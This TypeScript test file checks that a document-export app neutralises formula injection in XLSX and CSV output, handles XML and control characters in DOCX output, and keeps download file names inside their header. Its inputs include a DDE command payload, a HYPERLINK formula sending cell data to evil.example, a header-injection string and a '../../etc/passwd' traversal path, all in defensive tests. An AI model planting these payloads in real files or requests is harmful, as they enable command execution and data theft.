import ExcelJS from 'exceljs';
import { writeFaultyRows } from '../../src/imports/figure-import.files';
import { attachment } from '../../src/shared/attachment';
import { csvOf } from '../../src/shared/csv';
import { writeOfficialDocument } from '../../src/shared/official-document/write-official-document';
import { addSheet, type Column } from '../../src/shared/table-sheet';
import { readDocx } from '../harness/docx-file';
import { findLibreOffice, pagesOf } from '../harness/libreoffice';

/** What somebody may type as a name, an explanation, a reply or a text of a bulletin. */
const FORMULAS: readonly (readonly [string, string])[] = [
  ['equals', '=1+1'],
  ['plus', '+1+1'],
  ['minus', '-1+1'],
  ['at', '@SUM(A1:A9)'],
  ['full-width equals', '＝1+1'],
  ['full-width plus', '＋1+1'],
  ['full-width minus', '－1+1'],
  ['full-width at', '＠SUM(A1:A9)'],
  ['a tab before', '\t=1+1'],
  ['a line before', '\n=1+1'],
  ['a link', '=HYPERLINK("http://evil.example?x="&A1,"点击")'],
  ['DDE', `=cmd|' /C calc'!A0`],
  ['DDE behind a plus', `+cmd|' /C calc'!A0`],
  ['a further cell', '"; =1+1,"=1+1'],
];

/** What a program could not open, each beside what is kept of it. */
const SIGNS: readonly (readonly [string, string, string])[] = [
  ['marks of XML', `a<b>&c;"d"'e'</w:t>]]>`, `a<b>&c;"d"'e'</w:t>]]>`],
  ['a comment of XML', '<!-- x --><?y?>', '<!-- x --><?y?>'],
  [
    'all control characters',
    `前${Array.from({ length: 32 }, (_none, code) => String.fromCharCode(code)).join('')}后`,
    // The line's ends stay; in a .docx they part paragraphs.
    '前\n\n后',
  ],
  ['half a sign', '前\ud83d中\ude00后', '前中后'],
  ['no characters', '前\ufffe\uffff后', '前后'],
  ['emoji and rare signs', '👩‍👩‍👧‍👦🇨🇳𠮷', '👩‍👩‍👧‍👦🇨🇳𠮷'],
  ['10,000 characters', '长'.repeat(10_000), '长'.repeat(10_000)],
];

const ALL = [...FORMULAS.map(([, text]) => text), ...SIGNS.map(([, text]) => text)];
const COLUMN: readonly Column<string>[] = [{ header: '文字', width: 30, cell: (text) => text }];

async function sheets(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const words = { title: '=1+1', basis: '=1+1', units: '=1+1', scope: '=1+1' };
  addSheet({ workbook, ...words, asOf: '2024-10-15', demo: false }, '表', COLUMN, ALL);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const faultyRows = () =>
  writeFaultyRows(
    ALL.map((text, at) => ({
      row: at + 100,
      cells: { plan: text, value: text },
      errors: [{ address: 'A1', message: { zh: text } }],
    })),
  );

const paper = () =>
  writeOfficialDocument({
    title: ALL.slice(0, 3).join(''),
    issuer: ALL[14] ?? '',
    recipients: ALL[14] ?? '',
    blocks: [
      ...ALL.map((text) => ({ kind: 'paragraph' as const, text })),
      {
        kind: 'table',
        columns: [{ header: ALL[14] ?? '', width: 1 }],
        rows: ALL.map((text) => [text]),
      },
      { kind: 'keyValues', rows: ALL.map((text) => [{ label: text.slice(0, 9), value: text }]) },
    ],
    colophon: { copies: ALL[14] ?? '', printedBy: ALL[16] ?? '', printedOn: '2024年10月15日' },
  });

describe.each([
  ['a sheet', sheets],
  ['the rows of an import', faultyRows],
])('%s', (_name, write) => {
  const cells: ExcelJS.Cell[] = [];
  beforeAll(async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await write()).buffer);
    workbook.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => void cells.push(cell));
      });
    });
  });

  it.each(FORMULAS)('keeps %s a text', (_kind, text) => {
    const own = cells.filter(({ value }) => value === text);
    expect(own.length).toBeGreaterThan(0);
    expect(new Set(own.map(({ type }) => type))).toEqual(new Set([ExcelJS.ValueType.String]));
  });

  it('holds no formula and no link at all', () => {
    expect(cells.filter(({ formula, hyperlink }) => formula || hyperlink)).toEqual([]);
  });
});

it.each(FORMULAS)('text keeps %s a text', (_kind, text) => {
  const file = csvOf([['前', text, '后']]).toString('utf8');
  const field = file.slice('\uFEFF前,'.length, -',后\r\n'.length);
  const read = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
  expect(read).toMatch(/^['"]/);
  expect(read.replace(/^'/, '')).toBe(text);
});

it.each(SIGNS)('a .docx keeps of %s what it can', async (_kind, text, kept) => {
  const { text: all } = await readDocx(
    await writeOfficialDocument({
      title: text,
      issuer: text,
      blocks: [
        { kind: 'paragraph', text },
        { kind: 'table', columns: [{ header: text, width: 1 }], rows: [[text]] },
      ],
    }),
  );
  expect(all.split(kept)).toHaveLength(5);
});

/** `XUSHI_EXPECT_LIBREOFFICE=1` makes the absence of LibreOffice a failure. */
it('is opened by LibreOffice, whatever was typed', async () => {
  const program = await findLibreOffice();
  if (process.env.XUSHI_EXPECT_LIBREOFFICE === '1') expect(program).not.toBeNull();
  if (program === null) return;
  const books = new Map([
    ['sheets.xlsx', await sheets()],
    ['rows.xlsx', await faultyRows()],
  ]);
  const pages = [
    ...(await pagesOf(program, books, 'xlsx')).values(),
    ...(await pagesOf(program, new Map([['paper.docx', await paper()]]), 'docx')).values(),
  ];
  for (const page of pages) {
    expect(page).toContain('长'.repeat(10_000));
    expect(page).toContain('=1+1');
    // Nothing was reckoned.
    expect(page).not.toMatch(/sdval="2"|>2</);
  }
}, 120_000);

it.each([
  [
    'quotes and lines',
    'a"\r\nSet-Cookie: x=1\r\n\r\n<script>',
    'a"\r\nSet-Cookie: x=1\r\n\r\n<script>',
  ],
  ['a path', '../../etc/passwd', '../../etc/passwd'],
  ['percent signs', "%0d%0a'();*", "%0d%0a'();*"],
  ['emoji', '通报👍.docx', '通报👍.docx'],
])('a name with %s stays within its header', (_kind, name, read) => {
  const header = attachment(name, 'bulletin-1.docx');
  expect(header).toMatch(
    /^attachment; filename="bulletin-1\.docx"; filename\*=UTF-8''(?:[\w.!~-]|%[\dA-F]{2})+$/,
  );
  expect(decodeURIComponent(header.split("''")[1] ?? '')).toBe(read);
});
